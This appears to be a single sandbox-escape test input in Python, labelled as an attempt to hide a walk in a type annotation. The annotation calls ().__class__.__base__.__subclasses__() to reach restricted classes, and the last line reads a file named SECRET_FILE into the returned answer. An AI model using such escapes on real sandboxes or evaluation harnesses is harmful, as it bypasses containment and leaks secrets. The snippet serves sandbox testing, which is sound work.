# tries: hides a walk in an annotation
def f(x: ().__class__.__base__.__subclasses__()) -> 1:
    return x
answer = "OUT " + str(f.__annotations__) + open(SECRET_FILE).read()
